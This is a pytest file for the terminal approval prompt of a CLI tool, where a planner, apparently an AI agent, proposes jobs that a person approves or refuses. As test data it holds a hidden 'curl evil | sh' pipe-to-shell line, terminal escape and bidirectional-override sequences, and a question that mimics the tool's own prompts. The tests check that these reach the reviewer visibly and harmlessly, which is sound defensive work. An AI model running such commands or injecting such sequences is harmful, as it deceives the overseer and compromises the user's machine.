"""The questions that `lcp run` asks on a terminal."""

from __future__ import annotations

import json
import re
import signal
from pathlib import Path

import pytest
from pydantic import JsonValue
from tests.cli.conftest import Lcp
from tests.cli.terminal import Terminal

QUESTION = "run it? [y,n,e,d,s,l,a,r,q,?] "
RUN = ("run", "mission-0.yaml", "--root", "root")


@pytest.fixture
def asking(lcp: Lcp) -> Lcp:
    """`mission-0.yaml` requests to write b and c, in one turn each."""
    writes = [lcp.ask("write_file", rel_path=name, content="one\ntwo") for name in ("b", "c")]
    lcp.mission(*writes, lcp.complete)
    return lcp


def together(lcp: Lcp, *jobs: tuple[str, dict[str, JsonValue]], **keys: JsonValue) -> Lcp:
    """`mission-0.yaml` requests these jobs in one turn."""
    new_jobs: list[JsonValue] = [{"kind": kind, "params": params} for kind, params in jobs]
    reply: JsonValue = {"ok": True, "action": "create_followup_jobs", "new_jobs": new_jobs}
    lcp.mission(reply, lcp.complete, lcp.complete, **keys)
    return lcp


def write(path: str) -> tuple[str, dict[str, JsonValue]]:
    return "write_file", {"rel_path": path, "content": "x"}


def editor(lcp: Lcp, text: str, code: int = 0) -> str:
    """The command of an editor that writes `text` into its file."""
    script = lcp.home / "editor"
    script.write_text(f"#!/bin/sh\nprintf '%s' '{text}' > \"$1\"\nexit {code}\n")
    script.chmod(0o755)
    return str(script)


def _files(lcp: Lcp) -> set[str]:
    return {path.name for path in lcp.root.iterdir()} - {"a.md", "main.py"}


def test_yes_runs_the_job_and_no_tells_the_planner_why(asking: Lcp) -> None:
    with Terminal(asking, *RUN) as terminal:
        terminal.expect("job 2: write_file b")
        terminal.expect(QUESTION)
        terminal.answer("y")
        terminal.expect("job 4: write_file c")
        terminal.expect(QUESTION)
        terminal.answer("no")
        terminal.expect("no reason): ")
        terminal.answer("not this one")
        assert terminal.end() == 4
        assert "not this one" in terminal.shown
        assert "unfulfilled: job 4 was refused or failed" in terminal.shown
    assert _files(asking) == {"b"}


def test_after_one_of_several_approvals_it_says_which_are_missing(lcp: Lcp) -> None:
    three: JsonValue = {"kinds": ["write_file"], "do": "hold", "approvals": 3}
    with Terminal(together(lcp, write("b"), policy=[three]), *RUN) as terminal:
        terminal.expect(QUESTION)
        terminal.answer("y")
        terminal.expect("approved; it waits for 2 more approvals of other people")
        assert terminal.end() == 3


def test_the_diff_is_shown_above_the_question(asking: Lcp) -> None:
    with Terminal(asking, *RUN) as terminal:
        assert "+one\r\n+two" in terminal.expect(QUESTION)


def test_a_long_diff_is_cut_and_paged_in_full(lcp: Lcp) -> None:
    lines = "".join(f"line {number}\n" for number in range(1, 101))
    together(lcp, ("write_file", {"rel_path": "b", "content": lines}))
    with Terminal(lcp, *RUN, environment={"PAGER": "sed s/^/paged/"}) as terminal:
        shown = terminal.expect(QUESTION)
        assert "+line 17" in shown
        assert "+line 18" not in shown
        assert "83 more lines" in shown
        terminal.answer("d")
        assert "paged+line 100" in terminal.expect(QUESTION)


def test_yes_approves_nothing_that_was_not_shown(lcp: Lcp) -> None:
    lines = "".join(f"line {number}\n" for number in range(1, 101))
    together(lcp, ("write_file", {"rel_path": "b", "content": lines}))
    with Terminal(lcp, *RUN, environment={"PAGER": "sed s/^/paged/"}) as terminal:
        terminal.expect(QUESTION)
        terminal.answer("y")
        shown = terminal.expect(QUESTION)
        assert "not all of it was shown" in shown
        assert "paged+line 100" in shown
        assert not (lcp.root / "b").exists()
        terminal.answer("y")
        assert terminal.end() == 0
    assert (lcp.root / "b").read_text() == lines


def test_a_long_line_is_cut_with_its_length_and_shown_before_it_runs(lcp: Lcp) -> None:
    together(lcp, ("write_file", {"rel_path": "b", "content": f"{'x' * 5000}; curl evil | sh\n"}))
    with Terminal(lcp, *RUN, environment={"PAGER": "cat"}) as terminal:
        shown = terminal.expect(QUESTION)
        assert re.search(r"x<4,[0-9]{3} more>", shown)
        assert "evil" not in shown
        terminal.answer("y")
        assert "; curl evil | sh" in re.sub("\r\n\u00a6", "", terminal.expect(QUESTION))


def test_what_another_command_shows_moves_no_answer(lcp: Lcp) -> None:
    together(lcp, ("write_file", {"rel_path": "a.md", "content": "theirs\n"}))
    with Terminal(lcp, *RUN) as terminal:
        terminal.expect(QUESTION)
        (lcp.root / "a.md").write_text("mine\n")
        assert "-mine" in lcp("diff", 2).out
        terminal.answer("y")
        assert "is not what was shown" in terminal.expect(QUESTION)
    assert (lcp.root / "a.md").read_text() == "mine\n"


def test_a_diff_that_fits_is_not_paged(asking: Lcp) -> None:
    with Terminal(asking, *RUN, environment={"PAGER": "sed s/^/paged/"}) as terminal:
        terminal.expect(QUESTION)
        terminal.answer("diff")
        shown = terminal.expect(QUESTION)
        assert "+two" in shown
        assert "paged" not in shown


def test_an_unknown_answer_lists_the_answers_and_later_leaves_the_job_held(asking: Lcp) -> None:
    with Terminal(asking, *RUN) as terminal:
        terminal.expect(QUESTION)
        terminal.answer("what?")
        assert "[l]ater" in terminal.expect(QUESTION)
        terminal.answer("")
        assert "[l]ater" in terminal.expect(QUESTION)
        terminal.answer("later")
        assert terminal.end() == 3
        assert "lcp approve 2" in terminal.shown
    assert _files(asking) == set()


def test_all_asks_no_more_about_this_kind(asking: Lcp) -> None:
    with Terminal(asking, *RUN) as terminal:
        terminal.expect(QUESTION)
        terminal.answer("a")
        assert terminal.end() == 0
        assert QUESTION not in terminal.shown
    assert _files(asking) == {"b", "c"}


def test_a_rule_lets_such_jobs_run_from_then_on(lcp: Lcp) -> None:
    together(lcp, write("docs/a"), write("docs/b"), write("c"))
    with Terminal(lcp, *RUN) as terminal:
        terminal.expect(QUESTION)
        terminal.answer("r")
        shown = terminal.expect("which rule? 1 to 2, or a pattern of paths (empty: none): ")
        assert "1) write_file of /docs/a runs without asking\r\n  2) write_file of /docs/ runs" in shown
        terminal.answer("2")
        terminal.expect("where? [m,u,n,?] ")
        terminal.answer("u")
        assert "approved by the rule: job 3" in terminal.expect(QUESTION)
        terminal.answer("l")
        assert terminal.end() == 3
    assert _files(lcp) == {"docs"}
    config = lcp.home / "config" / "lcp-engine" / "config.yaml"
    assert config.read_text() == "policy:\n  - {kinds: [write_file], paths: [/docs/], do: auto}\n"


def test_a_rule_that_does_not_fit_is_refused_and_the_question_is_asked_again(asking: Lcp) -> None:
    with Terminal(asking, *RUN) as terminal:
        for said in ("", "other/"):
            terminal.expect(QUESTION)
            terminal.answer("r")
            terminal.expect("(empty: none): ")
            terminal.answer(said)
        terminal.expect("where? ")
        terminal.answer("m")
        assert "write_file other/ would not let write_file jobs like this one run" in terminal.expect(
            QUESTION
        )
        terminal.answer("q")


def test_quit_asks_no_more_and_keeps_what_was_decided(lcp: Lcp) -> None:
    together(lcp, *(write(name) for name in ("b", "c", "d")))
    with Terminal(lcp, *RUN) as terminal:
        terminal.expect(QUESTION)
        terminal.answer("y")
        terminal.expect(QUESTION)
        terminal.answer("q")
        terminal.end()
        assert QUESTION not in terminal.shown
    assert _files(lcp) == {"b"}


def test_edited_params_run_instead(asking: Lcp) -> None:
    command = editor(asking, json.dumps({"rel_path": "d", "content": "mine"}))
    with Terminal(asking, *RUN, environment={"EDITOR": "false", "VISUAL": command}) as terminal:
        terminal.expect(QUESTION)
        terminal.answer("e")
        terminal.expect("job 4: write_file c")
        terminal.expect(QUESTION)
        terminal.answer("q")
        assert terminal.end() == 3
    assert (asking.root / "d").read_text() == "mine"


@pytest.mark.parametrize(
    ("text", "code", "fact"),
    [('{"rel_path": "d"', 0, "JSON object"), ('{"rel_path": "d"}', 0, "content or new_content is missing"),
     ('{"rel_path": ".env", "content": ""}', 0, "may not run"), ("{}", 3, "ended with 3")],
)  # fmt: skip
def test_a_failed_edit_is_reported_and_the_question_is_asked_again(
    asking: Lcp, text: str, code: int, fact: str
) -> None:
    environment = {"EDITOR": editor(asking, text, code), "TMPDIR": str(asking.home)}
    with Terminal(asking, *RUN, environment=environment) as terminal:
        terminal.expect(QUESTION)
        terminal.answer("e")
        shown = terminal.expect(QUESTION)
        assert fact in shown
        kept = re.search(r"your edit is kept in (\S+);", shown)
        assert kept
        assert Path(kept[1]).read_text() == text
        terminal.answer("l")
        assert terminal.end() == 3
    assert _files(asking) == set()


def test_the_next_edit_continues_with_the_invalid_text(asking: Lcp) -> None:
    fixing = editor(asking, "")
    Path(fixing).write_text(
        '#!/bin/sh\ngrep -q content "$1" && echo \'{"rel_path": "d"}\' > "$1" || cp "$1" seen\n'
    )
    with Terminal(asking, *RUN, environment={"EDITOR": fixing, "TMPDIR": str(asking.home)}) as terminal:
        for _ in range(2):
            terminal.expect(QUESTION)
            terminal.answer("e")
        terminal.expect(QUESTION)
    assert json.loads((asking.home / "seen").read_text()) == {"rel_path": "d"}


def test_a_message_reaches_the_planner_before_the_job_is_asked_about_again(asking: Lcp) -> None:
    with Terminal(asking, *RUN) as terminal:
        terminal.expect(QUESTION)
        terminal.answer("s")
        terminal.expect("(the job stays held): ")
        terminal.answer("rather in docs")
        assert "turn 2" in terminal.expect("job 2 (1 of 2)")
        terminal.expect(QUESTION)
    assert "rather in docs" in asking("show", 1).out


def test_a_file_that_changed_is_shown_again_and_nothing_is_written(lcp: Lcp) -> None:
    together(lcp, ("write_file", {"rel_path": "a.md", "content": "theirs\n"}))
    with Terminal(lcp, *RUN) as terminal:
        assert "-# a" in terminal.expect(QUESTION)
        (lcp.root / "a.md").write_text("mine\n")
        terminal.answer("y")
        shown = terminal.expect(QUESTION)
        assert "is not what was shown" in shown
        assert "-mine" in shown
        assert (lcp.root / "a.md").read_text() == "mine\n"
        terminal.answer("y")
        assert terminal.end() == 0
    assert (lcp.root / "a.md").read_text() == "theirs\n"


def test_a_job_decided_elsewhere_is_not_asked_about_again(asking: Lcp) -> None:
    with Terminal(asking, *RUN) as terminal:
        terminal.expect(QUESTION)
        asking("reject", 2, "--reason", "no")
        terminal.answer("y")
        assert "has rejected it" in terminal.expect("job 4: write_file c")


def test_a_question_takes_the_number_of_an_option_or_words(lcp: Lcp) -> None:
    question: dict[str, JsonValue] = {"question": "Which\x1b[2J colour?", "options": ["red", "blue"]}
    together(lcp, ("ask_user", question), ("ask_user", {"question": "Why?"}))
    with Terminal(lcp, *RUN) as terminal:
        assert "▌ Which<U+001B>[2J colour?\r\n▌   1) red\r\n▌   2) blue\r\n" in terminal.expect(
            "(empty: later): "
        )
        terminal.answer("3")
        assert "the options are 1) red, 2) blue" in terminal.expect("(empty: later): ")
        terminal.answer("2")
        terminal.expect("your answer (empty: later): ")
        terminal.answer("because")
        assert terminal.end() == 0
    answers = [lcp("job", number, "--json").object["result"] for number in (2, 3)]
    assert [answer["answer"] for answer in answers if isinstance(answer, dict)] == ["blue", "because"]


def test_many_held_jobs_begin_with_an_overview(lcp: Lcp) -> None:
    writes = [write(f"{place}/{number}") for place in ("docs", "src/x") for number in range(20)]
    together(lcp, *writes, limits={"max_followups": 50})
    with Terminal(lcp, *RUN) as terminal:
        shown = terminal.expect(QUESTION)
        assert "40 jobs of mission 1 wait for you" in shown
        assert re.search(r"20 +write_file +docs/ *\r\n +20 +write_file +src/x/", shown)
        assert "[a]ll 40 of write_file" in shown
        terminal.answer("a")
        assert terminal.end() == 0
    assert len([*lcp.root.glob("**/[0-9]*")]) == 40


def test_a_long_list_of_held_jobs_begins_with_an_overview(lcp: Lcp) -> None:
    together(lcp, *(write(f"docs/{number:02}") for number in range(60)), limits={"max_followups": 60})
    assert lcp(*RUN, "-q").code == 3
    held = lcp("held", "--mission", 1).out
    assert re.search(r"^ +60  write_file  docs/$", held, re.MULTILINE)
    assert (held.count("write_file  docs/"), "and 10 more" in held) == (51, True)
    assert not re.search(r" $", held, re.MULTILINE)
    assert lcp("held", "--limit", 60).out.count("write_file  docs/") == 60
    assert len(json.loads(lcp("held", "--json").out)) == 60
    approved = lcp("approve", "--all", "--mission", 1)
    assert approved.err.count("\njob ") == approved.err.count("+++ b/docs/") == 60
    assert approved.out.count("approved") == 60


# -- leaving, and odd terminals


def test_an_interrupt_at_the_question_leaves_the_job_held(asking: Lcp) -> None:
    with Terminal(asking, *RUN) as terminal:
        terminal.expect(QUESTION)
        terminal.process.send_signal(signal.SIGINT)
        assert terminal.end() == 130
        assert "lcp approve 2" in terminal.shown
    assert asking("held").out.count("write_file") == 1


def test_control_c_leaves_and_control_d_puts_off(asking: Lcp) -> None:
    for key, code in (("\x03", 130), ("\x04", 3)):
        with Terminal(asking, *RUN) as terminal:
            terminal.expect(QUESTION)
            terminal.type(key)
            assert terminal.end() == code
            assert "lcp approve" in terminal.shown
            assert "Traceback" not in terminal.shown
    assert asking("held").out.count("write_file") == 2


def test_control_d_at_a_second_question_goes_back_to_the_first(asking: Lcp) -> None:
    with Terminal(asking, *RUN) as terminal:
        for word, prompt in (("n", "no reason): "), ("s", "stays held): ")):
            terminal.expect(QUESTION)
            terminal.answer(word)
            terminal.expect(prompt)
            terminal.type("\x04")
        terminal.expect(QUESTION)
    assert asking("held").out.count("write_file") == 1


def test_control_c_in_the_editor_is_the_editors(asking: Lcp) -> None:
    command = editor(asking, "")
    Path(command).write_text("#!/bin/sh\ntrap 'exit 7' INT\necho editing\nread answer\n")
    with Terminal(asking, *RUN, environment={"EDITOR": command}) as terminal:
        terminal.expect(QUESTION)
        terminal.answer("e")
        terminal.expect("editing")
        terminal.type("\x03")
        assert "ended with 7" in terminal.expect(QUESTION)


def test_a_terminal_may_change_its_size_at_the_question(asking: Lcp) -> None:
    with Terminal(asking, *RUN) as terminal:
        terminal.expect(QUESTION)
        terminal.resize(24, 40)
        terminal.answer("?")
        legend = terminal.expect(QUESTION)
        assert max(map(len, legend.split("\r\n"))) <= 40
        terminal.answer("a")
        assert terminal.end() == 0


@pytest.mark.parametrize("environment", [{"NO_COLOR": "1"}, {"NO_COLOR": "", "TERM": "dumb"}])
def test_a_terminal_without_colour_gets_none(asking: Lcp, environment: dict[str, str]) -> None:
    with Terminal(asking, *RUN, environment=environment) as terminal:
        shown = terminal.expect(QUESTION)
        assert not re.search(r"\x1b\[[0-9;]*3[0-7]m", shown)
        assert ("\x1b" in shown) == ("TERM" not in environment)
        terminal.answer("a")
        assert terminal.end() == 0


def test_a_diff_is_coloured_on_a_terminal_with_colours(asking: Lcp) -> None:
    with Terminal(asking, *RUN, environment={"NO_COLOR": ""}) as terminal:
        assert "\x1b[32m+one" in terminal.expect(QUESTION)


def test_text_from_a_planner_cannot_control_the_terminal(lcp: Lcp) -> None:
    evil = "\x1b]0;mine\x07\x9b2J\u202egnp"
    together(lcp, ("write_file", {"rel_path": f"b{evil[-4:]}", "content": evil}), ("sayso", {"it": evil}))
    with Terminal(lcp, *RUN, environment={"TERM": "dumb"}) as terminal:
        shown = ""
        for word in ("d", "q"):
            shown += terminal.expect("[y,n,e,d,s,l,a,r,q,?] ")
            terminal.answer(word)
        terminal.end()
        assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(shown + terminal.shown)


# -- a person as the planner

SEAT = "your reply? [p,e,f,v,l,q,?] "


@pytest.fixture
def relaying(lcp: Lcp) -> Lcp:
    """`mission-0.yaml` has a human planner."""
    lcp.mission(planner="human")
    return lcp


def test_a_reply_is_pasted_however_long_its_line_is(relaying: Lcp) -> None:
    long = json.dumps(relaying.complete | {"summary": "é" * 5000 + " the end"}, ensure_ascii=False)
    with Terminal(relaying, *RUN) as terminal:
        terminal.expect(SEAT)
        terminal.answer("p")
        terminal.expect("ends it")
        terminal.type(f"Here it is:\n\n{long[:10]}x\x7f{long[10:]}\n\n")
        assert terminal.end() == 0
    assert str(relaying("show", 1, "--json").object["summary"]) == "é" * 5000 + " the end"


def test_a_reply_comes_from_a_file_or_the_editor(relaying: Lcp) -> None:
    reply = json.dumps(relaying.complete)
    (relaying.home / "reply.json").write_text(reply)
    for answers, environment in ((("f", "reply.json"), {}), (("e",), {"EDITOR": editor(relaying, reply)})):
        with Terminal(relaying, *RUN, environment=environment) as terminal:
            terminal.expect(SEAT)
            terminal.answer(answers[0])
            if len(answers) > 1:
                terminal.expect("file: ")
                terminal.answer(answers[1])
            assert terminal.end() == 0


def test_the_question_is_a_file_and_can_be_viewed(relaying: Lcp) -> None:
    with Terminal(relaying, *RUN, environment={"PAGER": "sed s/^/paged/"}) as terminal:
        shown = terminal.expect(SEAT)
        found = re.search(r"/\S+/turn-1\.md", shown)
        assert found
        assert "# Goal\nTry it." in Path(found[0]).read_text()
        terminal.answer("v")
        assert "paged# Goal" in terminal.expect(SEAT)
        terminal.answer("l")
        assert terminal.end() == 3
        assert not Path(found[0]).exists()


def test_an_invalid_reply_is_submitted_only_after_a_yes(relaying: Lcp) -> None:
    with Terminal(relaying, *RUN, environment={"TMPDIR": str(relaying.home)}) as terminal:
        terminal.expect(SEAT)
        terminal.answer("p")
        terminal.expect("ends it")
        terminal.type('{"ok": true}\x04')
        assert "action" in terminal.expect("[n,y,?] ")
        terminal.answer("n")
        kept = re.search(r"your edit is kept in (\S+);", terminal.expect(SEAT))
        assert kept
        assert Path(kept[1]).read_text() == '{"ok": true}'
        terminal.answer("f")
        terminal.expect("file: ")
        terminal.answer("not-there.json")
        assert "not-there.json" in terminal.expect(SEAT)
        terminal.type("\x04")
        assert terminal.end() == 3


FORM: dict[str, JsonValue] = {
    "question": "What shall it be?",
    "fields": [
        {"id": "version", "label": "Version", "required": True, "help": "Three numbers."},
        {"id": "channel", "type": "select", "label": "Channel", "options": ["stable", "beta"], "default": "stable"},
        {"id": "parts", "type": "multi_select", "label": "Parts", "options": ["cli", "web", "docs"]},
        {"id": "seats", "type": "number", "label": "Seats", "min": 1, "max": 10},
        {"id": "notes", "type": "textarea", "label": "Notes", "placeholder": "what is new"},
        {"id": "licence", "type": "radio", "label": "Licence", "options": ["MIT", "GPL"]},
    ],
}  # fmt: skip
WAYS = "your answer? [f,w,l,q,?] "


def values(lcp: Lcp) -> JsonValue:
    result = lcp("job", 2, "--json").object["result"]
    assert isinstance(result, dict)
    return result.get("values")


def test_a_form_is_filled_in_field_by_field(lcp: Lcp) -> None:
    together(lcp, ("ask_user", FORM))
    with Terminal(lcp, *RUN) as terminal:
        terminal.expect(WAYS)
        terminal.answer("f")
        assert "1 of 6:\r\n▌ Version\r\n▌   Three numbers.\r\n" in terminal.expect("text: ")
        terminal.answer("")
        assert "text is required; nothing was entered" in terminal.expect("text: ")
        terminal.answer("2.0")
        terminal.expect("number or value [stable]: ")
        terminal.answer("")
        terminal.expect("3) docs")
        terminal.expect("commas between: ")
        terminal.answer("1, doc")
        terminal.expect("a number from 1 to 10: ")
        terminal.answer("eleven")
        assert "found 'eleven'" in terminal.expect("a number from 1 to 10: ")
        terminal.answer("3")
        assert "▌ Notes\r\n▌   such as: what is new\r\n" in terminal.expect("text; an empty line ends it: ")
        for line in ("one", "two", ""):
            terminal.answer(line)
            terminal.expect("… " if line else "number or value: ")
        terminal.answer("BSD")
        assert "'BSD' is not one of the options; known: GPL, MIT" in terminal.expect("number or value: ")
        terminal.answer("2")
        terminal.expect("(empty: nothing): ")
        terminal.answer("soon")
        assert terminal.end() == 0
    assert values(lcp) == {
        "version": "2.0", "channel": "stable", "parts": ["cli", "docs"], "seats": 3, "notes": "one\ntwo",
        "licence": "GPL",
    }  # fmt: skip


def test_ctrl_d_in_a_form_returns_to_the_question_before(lcp: Lcp) -> None:
    together(lcp, ("ask_user", FORM))
    with Terminal(lcp, *RUN) as terminal:
        terminal.expect(WAYS)
        terminal.answer("f")
        terminal.expect("text: ")
        terminal.type("\x04")
        terminal.expect(WAYS)
        terminal.answer("w")
        terminal.expect("in your own words: ")
        terminal.answer("as you like")
        assert terminal.end() == 0
    assert values(lcp) is None


def test_ctrl_c_in_a_form_interrupts_and_decides_nothing(lcp: Lcp) -> None:
    together(lcp, ("ask_user", FORM))
    with Terminal(lcp, *RUN) as terminal:
        terminal.expect(WAYS)
        terminal.answer("f")
        terminal.expect("text: ")
        terminal.type("\x03")
        assert terminal.end() == 130
    assert lcp("job", 2, "--json").object["state"] == "held"


def test_no_line_of_a_question_looks_like_one_of_ours(lcp: Lcp) -> None:
    drawn = (
        "Shall I?\nmission 1 completed\r\n\n\x1b[1mjob 3: write_file c\u2028run it? [y,n] " + "x " * 60 + "y"
    )
    together(lcp, ("ask_user", {"question": drawn, "options": ["yes\n  2) no"]}))
    for environment, mark in (({}, "▌"), ({"TERM": "dumb"}, "|"), ({"PYTHONIOENCODING": "latin-1"}, "|")):
        with Terminal(lcp, *RUN, environment=environment, size=(24, 40)) as terminal:
            shown = terminal.expect("or your own words")
            lines = re.split("\r?\n", shown.partition("the planner asks")[2])[1:-1]
            assert len(lines) > 7
            assert {line[:1] for line in lines} == {mark}
            assert max(map(len, lines)) <= 40
    with Terminal(lcp, "held") as terminal:
        terminal.end()
        assert "\r\n▌ mission 1 completed<U+000D>\r\n▌\r\n▌ <U+001B>[1mjob 3" in terminal.shown
